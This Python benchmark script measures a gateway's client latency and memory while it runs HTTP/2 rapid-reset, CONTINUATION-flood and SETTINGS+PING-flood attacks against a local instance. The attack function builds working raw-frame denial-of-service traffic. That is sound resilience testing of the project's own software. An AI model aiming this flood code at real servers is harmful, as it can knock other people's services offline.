#!/usr/bin/env python3
"""A normal HTTP/2 client's latency while an attacker runs an HTTP/2 abuse pattern against the
same gatehouse (h2c listener, one worker on core 0; backend, client and attacker on core 1).

For each attack (rapid reset, CONTINUATION flood, SETTINGS+PING flood) the normal client
(`h2load -c 4 -m 1`, fixed request count) runs once alone and once during the attack; the
table shows its p50/p99 and the ratio to the unloaded run, and the gateway's RSS.

Usage: benches/load/h2_abuse.py [--requests 20000] [--repeat 3]
Needs: nginx (the backend), h2load (nghttp2-client), a release build of gatehouse.
"""
import argparse
import os
import shutil
import socket
import statistics
import struct
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from compare import NGINX_BACKEND, ROOT, free_port, stop_all, wait_port  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET_BLOCK = bytes([0x82, 0x86, 0x84, 0x41, 0x01]) + b"a"


def frame(kind, flags, stream, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, kind, flags, stream & 0x7FFFFFFF) + payload


def attack(port, kind, stop):
    """Repeats the attack on new connections until `stop` is set."""
    junk = b"".join(b"\x00" + bytes([len(f"x-junk-{i}")]) + f"x-junk-{i}".encode() + b"\x64" + b"v" * 100
                    for i in range(100))
    while not stop.is_set():
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=2)
            s.sendall(PREFACE + frame(0x4, 0, 0))
            if kind == "rapid reset":
                batch = b"".join(frame(0x1, 0x5, 1 + 2 * i, GET_BLOCK) + frame(0x3, 0, 1 + 2 * i, struct.pack(">I", 8))
                                 for i in range(2000))
                s.sendall(batch)
            elif kind == "CONTINUATION flood":
                s.sendall(frame(0x1, 0x1, 1, GET_BLOCK))
                for _ in range(2000):
                    s.sendall(frame(0x9, 0, 1, junk[:1000]))
            else:
                for i in range(2000):
                    s.sendall(frame(0x4, 0, 0, bytes([0, 3, 0, 0, 0, 100])) + frame(0x6, 0, 0, struct.pack(">Q", i)))
                    s.setblocking(False)
                    try:
                        s.recv(65536)
                    except OSError:
                        pass
                    s.setblocking(True)
            s.close()
        except OSError:
            time.sleep(0.01)


def percentiles(port, n, tmp, tag):
    log = f"{tmp}/{tag}.log"
    if os.path.exists(log):
        os.remove(log)  # h2load appends
    subprocess.run(["taskset", "-c", "1", "h2load", "-n", str(n), "-c", "4", "-m", "1", "-t", "1",
                    "--log-file", log, f"http://127.0.0.1:{port}/bench"], capture_output=True, timeout=300)
    lat = sorted(int(line.split("\t")[2]) for line in open(log) if line.strip())
    return lat[len(lat) // 2], lat[int(len(lat) * 0.99)], len(lat)


def rss_kb(pid):
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    return 0


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--requests", type=int, default=20000)
    ap.add_argument("--repeat", type=int, default=3)
    args = ap.parse_args()
    # this process (the attacker threads) stays off the gateway's core
    os.sched_setaffinity(0, {1})
    if not shutil.which("h2load"):
        sys.exit("h2load is needed (apt-get install -y nghttp2-client)")
    nginx = shutil.which("nginx") or "/usr/sbin/nginx"
    binary = os.path.join(ROOT, "target/release/gatehouse")
    if not os.path.exists(binary) or os.environ.get("BUILD", "1") == "1":
        subprocess.run(["cargo", "build", "--release", "--bin", "gatehouse"], cwd=ROOT, check=True)
    tmp = tempfile.mkdtemp(prefix="gatehouse-h2abuse-")
    procs = []
    try:
        backend = free_port()
        with open(f"{tmp}/backend.conf", "w") as f:
            f.write(NGINX_BACKEND.format(dir=tmp, port=backend))
        procs.append(subprocess.Popen(["taskset", "-c", "1", nginx, "-c", f"{tmp}/backend.conf", "-p", tmp],
                                      stderr=subprocess.DEVNULL))
        wait_port(backend)
        port, admin = free_port(), free_port()
        with open(f"{tmp}/gh.yaml", "w") as f:
            f.write(f"""server:
  listen: [{{ addr: "127.0.0.1:{port}", h2c: true }}]
  threads: 1
  access_log: off
  watch_config: false
  log_level: error
admin:
  listen: "127.0.0.1:{admin}"
upstreams:
  backend: {{ backends: ["127.0.0.1:{backend}"] }}
routes:
  - {{ id: bench, upstream: backend }}
""")
        gh = subprocess.Popen(["taskset", "-c", "0", binary, "run", "-c", f"{tmp}/gh.yaml"],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        procs.append(gh)
        wait_port(port)
        time.sleep(1.5)
        rows = []
        for kind in ["rapid reset", "CONTINUATION flood", "SETTINGS+PING flood"]:
            base, loaded, rss = [], [], 0
            for r in range(args.repeat):
                base.append(percentiles(port, args.requests, tmp, f"base{r}"))
                stop = threading.Event()
                t = threading.Thread(target=attack, args=(port, kind, stop), daemon=True)
                t.start()
                time.sleep(0.5)
                loaded.append(percentiles(port, args.requests, tmp, f"load{r}"))
                rss = max(rss, rss_kb(gh.pid))
                stop.set()
                t.join(timeout=10)
            med = lambda xs, i: statistics.median(x[i] for x in xs)  # noqa: E731
            rows.append((kind, med(base, 0), med(base, 1), med(loaded, 0), med(loaded, 1), rss,
                         min(x[2] for x in loaded)))
        print(f"\n{args.repeat} runs, medians; normal client h2load -c 4 -m 1, {args.requests} requests; "
              f"latency in us\n")
        print("| attack | p50 alone | p99 alone | p50 under attack | p99 under attack | p99 ratio | gateway RSS MiB | requests done |")
        print("|---|---|---|---|---|---|---|---|")
        for kind, b50, b99, l50, l99, rss, done in rows:
            print(f"| {kind} | {b50:.0f} | {b99:.0f} | {l50:.0f} | {l99:.0f} | {l99 / b99:.2f}x | {rss / 1024:.0f} | {done} |")
    finally:
        stop_all(procs, nginx, tmp)


if __name__ == "__main__":
    main()
